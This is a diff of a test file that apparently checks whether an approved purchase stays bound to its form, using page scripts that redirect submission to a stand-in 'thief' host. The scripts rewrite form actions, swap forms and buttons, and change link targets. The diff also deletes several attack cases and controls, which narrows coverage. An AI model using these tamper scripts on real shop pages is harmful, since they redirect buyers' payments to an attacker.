@@ -83,9 +83,7 @@ const TRICKS: Readonly<Record<string, Trick>> = {
     first: `form.insertAdjacentHTML('beforeend', '<input type=hidden name=amount value=1>')`,
     then: `form.elements.amount.value = '1000'`,
   },
-  'changes its method': { then: `form.method = 'get'` },
   'changes where its form is sent': { then: `form.action = thief + '/buy'` },
-  'gives its button a target of its own': { then: `buy.formAction = thief + '/buy'` },
   'moves its button to another form': {
     then: `document.body.insertAdjacentHTML('beforeend', '<form id=other method=post action="' + thief + '/buy"></form>'); buy.setAttribute('form', 'other')`,
   },
@@ -104,7 +102,6 @@ const TRICKS: Readonly<Record<string, Trick>> = {
     target: '',
     then: `form.action = thief + '/buy'`,
   },
-  'gives itself another query': { then: `history.replaceState(null, '', '?quantity=1000')` },
   'is written again': {
     then: `document.open(); document.write('<title>Shop</title>'); document.close(); ${TWIN}`,
   },
@@ -114,10 +111,6 @@ const TRICKS: Readonly<Record<string, Trick>> = {
     then: `await new Promise((done) => { frame.onload = done; frame.src = thief + '/form'; })`,
     // A frame of another site than the card's is left out.
     ends: 'selector_not_found',
-  },
-  'changes the form in its frame': {
-    path: '/frame',
-    then: `frame.contentDocument.forms[0].action = thief + '/buy'`,
   },
   'replaces its shadow host': {
     path: '/shadow',
@@ -129,7 +122,6 @@ const TRICKS: Readonly<Record<string, Trick>> = {
     then: `location.reload()`,
   },
   'changes its button as the mouse goes down': { then: on('mousedown', `buy.formAction = thief + '/buy'`) },
-  'changes its form as the button goes up': { then: on('mouseup', `form.action = thief + '/buy'`) },
   'swaps its form as the button goes down': { then: on('pointerdown', `form.remove(); ${TWIN}`) },
   'changes to which site its link leads': { path: '/link', then: `buy.href = thief + '/view'` },
 };
@@ -153,9 +145,7 @@ it.each(sample(Object.entries(TRICKS), 6))(
 /** Paths and changes that the yes is good for. */
 const CONTROLS: Readonly<Record<string, Trick>> = {
   'a form whose fields hide its methods': { path: '/clobbered', then: '' },
-  'a form that a step does not name': { target: '', then: '' },
   'a form in a frame': { path: '/frame', then: '' },
-  'a form in a shadow tree': { path: '/shadow', then: '' },
   'a link': { path: '/link', then: '', sent: '/view?item=1' },
   'a page that changes elsewhere, and goes to a part of itself': {
     then: `document.querySelector('h1').textContent = 'Sale'; location.hash = 'form'`,
